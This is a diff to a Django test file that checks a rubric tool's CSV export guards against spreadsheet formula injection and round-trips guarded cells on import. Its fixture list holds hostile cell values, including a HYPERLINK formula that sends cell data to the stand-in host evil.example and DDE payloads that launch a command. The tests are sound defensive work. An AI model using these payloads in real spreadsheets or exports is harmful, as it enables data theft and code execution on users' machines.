@@ -4,6 +4,7 @@ through the page, the API and the command where they exist, with a clear error n
 
 from __future__ import annotations
 
+import csv
 import html
 import io
 import json
@@ -20,7 +21,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import CommandError, call_command
 
 from annotation.models import ImportJob, Response
-from rubrics import uploads
+from rubrics import formats, uploads
 from rubrics.models import Criterion, ReferenceDeliverable, Rubric, RubricVersion, Task
 from tests import factories
 from tests.conftest import MEDIA_DIR
@@ -593,3 +594,79 @@ def test_a_csv_field_over_the_csv_limit_is_a_clear_error(personas, tmp_path, unc
     csv_text = f'task_id,prompt,criterion,points\ns-1,Q?,"{"x" * 200_000}",1\n'.encode()
     message = rubric_command(personas, tmp_path, "long.csv", csv_text, "csv")
     assert "line 2: Not readable as CSV (field larger than field limit" in message
+
+
+# --- CSV export: formula injection ------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTab first",
+    "\rReturn first",
+    "''=A guarded cell from a spreadsheet",  # a CSV guard on text that starts with '=
+    "'plain apostrophe",
+]
+# What the import stores: the guard's one apostrophe off, nothing else changed.
+# (Criterion text is stripped of surrounding whitespace, so a tab or CR first never reaches it.)
+STORED = [
+    *FORMULAS[:4],
+    "Tab first",
+    "Return first",
+    "'=A guarded cell from a spreadsheet",
+    "'plain apostrophe",
+]
+
+
+def test_csv_export_guards_formula_cells_and_the_import_round_trips_them(
+    client, personas, tmp_path
+):
+    rows = [["task_id", "prompt", "criterion", "points", "tags", "gate", "group"]]
+    rows += [
+        ["-task-1", "=1+1 what now?", text, -3 if i % 2 else 2, "-tag, @x", "", ""]
+        for i, text in enumerate(FORMULAS)
+    ]
+    rows[1][4:7] = ["=risky", "yes", "+Group"]
+    source = io.StringIO()
+    csv.writer(source).writerows(rows)
+    path = _write(tmp_path, "in.csv", source.getvalue().encode())
+    call_command("import_rubrics", str(path), format="csv", project=personas.project.slug)
+    before = Criterion.objects.filter(version__rubric__project=personas.project)
+    assert list(before.order_by("position").values_list("text", flat=True)) == STORED
+
+    client.force_login(personas.author)
+    reply = client.get(f"/p/{personas.project.slug}/rubrics/export/?format=csv")
+    assert reply.status_code == 200 and reply["Content-Type"] == "text/csv; charset=utf-8"
+    exported = reply.content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == ["-3"] * 4  # plain negative numbers are numbers, not formulas
+    assert "'-task-1" in cells and "'=1+1 what now?" in cells
+    assert "''=A guarded cell from a spreadsheet" in cells and "'plain apostrophe" in cells
+    assert "'-tag, @x" in cells and "'+Group" in cells
+
+    other = factories.make_project(owner=personas.admin)
+    out = tmp_path / "out.csv"
+    call_command("export_rubrics", format="csv", project=personas.project.slug, output=str(out))
+    assert out.read_text() == exported
+    call_command("import_rubrics", str(out), format="csv", project=other.slug)
+    after = Criterion.objects.filter(version__rubric__project=other)
+    fields = ("text", "points", "tags", "gate", "group__title")
+    assert list(after.order_by("position").values_list(*fields)) == list(
+        before.order_by("position").values_list(*fields)
+    )
+    assert after.get(position=0).tags == ["=risky"] and after.get(position=0).gate is True
+    assert after.get(position=1).tags == ["-tag", "@x"]
+    assert list(after.order_by("position").values_list("text", flat=True)) == STORED
+    task = Task.objects.get(project=other)
+    assert task.external_id == "-task-1"
+    assert task.messages == [{"role": "user", "content": "=1+1 what now?"}]
+
+
+def test_the_guard_covers_every_formula_start_and_undoes_exactly_itself():
+    for value in ["=1", "+1", "-x", "@x", "\tx", "\rx", "'=x", "''+x"]:
+        guarded = formats.guard_cell(value)
+        assert guarded == "'" + value and formats.unguard_cell(guarded) == value
+    for value in ["-5", "-2.50", "12", "plain", "'quoted", "", "a=b"]:
+        assert formats.guard_cell(value) == value == formats.unguard_cell(value)
